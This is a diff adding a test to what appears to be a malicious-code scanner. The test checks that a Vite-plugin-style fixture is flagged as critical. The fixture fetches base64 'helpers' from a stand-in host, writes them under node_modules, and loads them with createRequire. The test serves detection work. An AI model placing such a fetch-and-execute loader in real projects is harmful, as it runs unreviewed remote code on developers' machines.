@@ -1453,3 +1453,22 @@ def test_invisible_characters_are_read_back_as_the_text_they_spell():
     # An emoji's one selector, a flag's six tags, a short run of selectors: no text.
     assert decode_invisible("\u2714\ufe0f \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f") is None
     assert decode_invisible(_invisible("abc")) is None
+
+
+def test_a_download_written_and_loaded_with_a_require_made_by_create_require():
+    # (blind set 53's Vite sprite plugin: buildStart fetches "icon metadata", writes its base64 `helpers` field to
+    # node_modules/.vite/deps and loads it with `createRequire(import.meta.url)(f)`)
+    lib = ("import { writeFileSync } from 'node:fs';\nimport { join } from 'node:path';\n"
+           "import { createRequire } from 'node:module';\n"
+           "export async function loadMeta(root) {\n"
+           "  const meta = await (await fetch('https://sprite.example/meta/v1.json')).json();\n"
+           "  const f = join(root, 'node_modules', '.vite', 'deps', '_sprite_helpers.cjs');\n"
+           "  writeFileSync(f, Buffer.from(meta.helpers, 'base64'));\n"
+           "  createRequire(import.meta.url)(f);\n}\nloadMeta(process.cwd());\n")
+    for loads in ("createRequire(import.meta.url)(f);", "const load = createRequire(import.meta.url);\n  load(f);"):
+        found = run({"index.mjs": lib.replace("createRequire(import.meta.url)(f);", loads)}, main="index.mjs")
+        loaded = next(f for f in found if f.rule == "code/temp-module")
+        assert loaded.severity is Severity.CRITICAL and "loads it with require" in loaded.message
+    # A require made so and given a module name loads that module, as require does.
+    named = lib.replace("createRequire(import.meta.url)(f);", "createRequire(import.meta.url)('./helpers.cjs');")
+    assert not any(f.rule == "code/temp-module" for f in run({"index.mjs": named}, main="index.mjs"))
